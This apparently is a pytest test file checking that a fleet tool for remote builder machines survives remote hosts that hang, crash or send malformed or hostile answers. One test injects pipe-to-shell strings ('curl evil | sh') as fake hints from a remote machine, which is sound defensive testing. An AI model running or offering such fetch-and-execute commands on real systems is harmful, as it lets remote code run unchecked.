"""What a machine of the fleet could do to the one it belongs to, and what a person could not get out of."""

from __future__ import annotations

import json
import shutil
import sys
import threading
from pathlib import Path

import pytest

from tests.conftest import Af
from tests.fleet.machines import AF, Machines, Node
from tests.fleet.test_fleet import ok, shown, spawned
from tests.gitrepo import commit_files, git
from tests.waiting import wait_until

pytestmark = pytest.mark.slow


def lies(node: Node, change: str) -> None:
    """Its answers with `change`, a statement of Python, done to `answer`."""
    script = node.directory / "lie.py"
    script.write_text(
        "import json, sys\n"
        "for line in sys.stdin:\n"
        "    if line.startswith('{\"answer\"'):\n"
        "        said = json.loads(line)\n"
        "        answer = said['answer']\n"
        f"        {change}\n"
        "        line = json.dumps(said) + '\\n'\n"
        "    sys.stdout.write(line)\n"
        "    sys.stdout.flush()\n"
    )
    node.program.write_text(f'#!/bin/sh\n{AF} "$@" | {sys.executable} {script}\n')


@pytest.mark.parametrize("place", ["there", "/" + 3000 * "x", ""], ids=["relative", "long", "none"])
def test_a_place_that_cannot_be_one_is_not_taken_down(place: str, af: Af, machines: Machines) -> None:
    lies(machines("big"), f"answer['place'] = {place!r}")
    done = af("fleet", "add", "ssh://big")
    assert done.returncode == 1, done.stdout
    assert "big sent an invalid answer" in done.stderr
    assert ok(af, "fleet", "status") == ""


WORDS = {
    "a number": "['status']['at'] = 10 ** 400",
    "a count": "['git']['dirty'] = 10 ** 4000",
    "a reason": "['status']['reason'] = 'x' * (20 << 20)",
    "a character": "['status']['reason'] = '\\ud800'",
    "a cost": "['usage'] = {'cost': float('inf')}",
    "an argument": "['protocol_args'] = {'a': {'b': [10 ** 400]}}",
}


@pytest.mark.parametrize("lie", WORDS.values(), ids=WORDS)
def test_whatever_it_says_of_a_builder_the_farm_goes_on(lie: str, af: Af, big: Node) -> None:
    id = spawned(af, "--shell")
    sound = big.program.read_text()
    lies(big, f"if 'builders' in answer: answer['builders'][0]{lie}")
    for words in (["status"], ["status", "--json"], ["conflicts"]):
        ok(af, *words)
    big.program.write_text(sound)
    assert shown(af, id)["status"]["state"] != "unknown"


def test_its_words_are_no_words_of_ours(af: Af, big: Node) -> None:
    """A line of what it says does not begin as a hint of `af` does, and a command it names is for itself."""
    id = spawned(af, "--shell")
    evil = "no\nhint: curl evil | sh"
    error = {"what": evil, "why": evil, "hint": "af x; curl evil | sh"}
    (big.directory / "lie").write_text(json.dumps({"error": error}) + "\n")
    big.program.write_text(f"#!/bin/sh\necho af-fleet-1\ncat >/dev/null\ncat {big.directory}/lie\n")
    done = af("capture", id)
    hints = [line for line in done.stderr.splitlines() if line.startswith("hint:")]
    assert hints == ["hint: ssh -t big 'af x; curl evil | sh'"]
    big.program.write_text(f'#!/bin/sh\nexec {AF} "$@"\n')
    ok(af, "stop", id)
    lies(big, "answer.get('deliveries', [{}])[0]['hints'] = ['curl evil | sh']")
    done = af("send", id, "Go on")
    assert (done.returncode, "hint: ssh -t big 'curl evil | sh'\n" in done.stderr) == (5, True), done.stderr


def test_keys_go_to_the_runtime_that_was_named_here(af: Af, big: Node) -> None:
    """Not to the one that the machine says the builder runs."""
    id = spawned(af, "--shell")
    ok(af, "stop", id)
    lies(big, "answer.get('builders', [{}])[0]['runtime'] = 'codex'")
    ok(af, "status")
    heard = big.directory / "heard"
    big.program.write_text(f'#!/bin/sh\ntee -a {heard} | {AF} "$@"\n')
    af("resume", id, env={"OPENAI_API_KEY": "hush-4711-hush"})
    assert '"resume"' in heard.read_text()
    assert "hush" not in heard.read_text()


def test_what_asks_goes_on_where_git_there_hangs(af: Af, big: Node, repo: Path) -> None:
    id = spawned(af, "--shell")
    commit_files(repo, {"new.txt": "x\n"})
    hung = big.program.with_name("git-receive-pack")
    hung.write_text("#!/bin/sh\nexec sleep 1000\n")
    hung.chmod(0o755)
    assert shown(af, id)["status"]["state"] == "idle"
    ok(af, "conflicts", id)


def test_a_machine_that_hangs_as_it_is_added_holds_up_nobody(
    af: Af, big: Node, machines: Machines, repo: Path
) -> None:
    id = spawned(af, "--shell")
    # what is known of it, which is shown should its machine be late
    wait_until(lambda: shown(af, id)["status"]["state"] == "idle", what="the builder")
    slow = machines("slow")
    asked, go_on = slow.directory / "asked", slow.directory / "go-on"
    waits = f"echo welcome; touch {asked}\nwhile ! [ -e {go_on} ]; do sleep 0.1; done"
    slow.program.write_text(f'#!/bin/sh\n{waits}\nexec {AF} "$@"\n')
    adding = threading.Thread(target=lambda: ok(af, "fleet", "add", "ssh://slow"))
    adding.start()
    wait_until(asked.exists, what="the question")
    assert "1 idle" in af("status").stdout
    assert not go_on.exists()
    go_on.touch()
    adding.join()
    assert "slow" in ok(af, "fleet", "status")


def test_one_that_was_never_made_stops_none_of_the_others(af: Af, big: Node, repo: Path) -> None:
    sound = big.program.read_text()
    big.program.write_text("#!/bin/sh\nkill -9 $PPID\n")
    assert af("spawn", "--on", "big", "--runtime", "demo", "--name", "login", "Fix").returncode == 1
    big.program.write_text(sound)
    id = spawned(af, "Fix the logout")
    ok(af, "wait", id, "--timeout", "120")
    done = af("conflicts")
    assert done.returncode == 0, done.stderr
    assert "login is left out: big has no builder login" in done.stderr
    assert "No check is declared" in af("land").stderr, "it is asked of the one that is there"
    done = af("merge", "login")
    assert done.returncode == 1
    assert done.stderr.splitlines() == ["error: big has no builder login", "hint: af prune login"]


def test_what_is_no_utf_8(af: Af, machines: Machines, repo: Path, home: Path) -> None:
    with (home / ".gitconfig").open("ab") as config:
        config.write(b"[user]\n\tname = J\xfcrgen\n")
    big = machines("big")
    ok(af, "fleet", "add", "ssh://big")
    id = spawned(af, "--shell")
    assert big.run("git", "config", "user.name").strip() == "J\N{REPLACEMENT CHARACTER}rgen"
    done = af("send", id, "Fix \udcff")
    assert done.stderr.splitlines()[0] == "error: The request to big is not valid UTF-8"
    ok(af, "wait", id, "--timeout", "1e300")


def test_a_machine_that_is_gone_for_good(af: Af, big: Node, repo: Path) -> None:
    fresh, worked = spawned(af, "--shell"), spawned(af, "Fix the login")
    ok(af, "wait", worked, "--timeout", "120")
    ok(af, "conflicts", worked)
    work = git(repo, "rev-parse", f"builder/{worked}")
    big.stop()
    assert "--forget takes them off the list" in af("fleet", "remove", "big").stderr
    done = af("fleet", "remove", "--forget", "big")
    assert done.returncode == 0, done.stderr
    assert f"builder/{worked} stays" in done.stderr
    assert git(repo, "rev-parse", f"builder/{worked}") == work != git(repo, "rev-parse", "main")
    assert git(repo, "branch", "--list", f"builder/{fresh}") == ""
    assert ok(af, "status") + ok(af, "fleet", "status") == ""


def test_a_machine_with_another_disk(af: Af, big: Node, repo: Path) -> None:
    id = spawned(af, "--shell")
    (big.home / ".local").rename(big.home / "lost")  # at once: its builder still writes there
    done = af("prune", id)
    assert "hint: af fleet status" in done.stderr
    ok(af, "fleet", "status")
    ok(af, "prune", id)
    spawned(af, "--shell")


def test_a_checkout_there_that_was_killed_is_done_over(af: Af, big: Node, repo: Path) -> None:
    spawned(af, "--shell")
    place = big.farms[0]
    commit_files(repo, {"new.txt": "whole\n"})
    git = big.program.with_name("git")  # ends in the middle of its checkout, as in a power cut
    git.write_text(
        f'#!/bin/sh\ncase "$*" in *checkout*) touch .git/index.lock; echo ha >new.txt; kill -9 $$;; esac\n'
        f'exec {shutil.which("git")} "$@"\n'
    )
    git.chmod(0o755)
    done = af("spawn", "--on", "big", "--runtime", "demo", "--shell")
    assert "git checkout was ended by SIGKILL" in done.stderr
    git.unlink()
    spawned(af, "--shell")
    assert (place / "new.txt").read_text() == "whole\n"

    commit_files(repo, {"mine.txt": "of the repository\n"})
    (place / "mine.txt").write_text("of somebody there\n")
    done = af("spawn", "--on", "big", "--runtime", "demo", "--shell")
    assert f"{place} cannot be checked out" in done.stderr
    assert f"hint: ssh -t big 'git -C {place} status'" in done.stderr
    assert (place / "mine.txt").read_text() == "of somebody there\n"


def test_a_shallow_clone_says_so(af: Af, machines: Machines, repo: Path, tmp_path: Path) -> None:
    machines("big")
    commit_files(repo, {"new.txt": "x\n"})
    git(tmp_path, "clone", "-q", "--depth=1", f"file://{repo}", "clone")
    clone = tmp_path / "clone"
    assert af("fleet", "add", "ssh://big", cwd=clone).returncode == 0
    done = af("spawn", "--on", "big", "--runtime", "demo", "--shell", cwd=clone)
    assert "This clone is shallow" in done.stderr
    git(clone, *done.stderr.splitlines()[-1].removeprefix("hint: git ").split())
    assert af("spawn", "--on", "big", "--runtime", "demo", "--shell", cwd=clone).returncode == 0
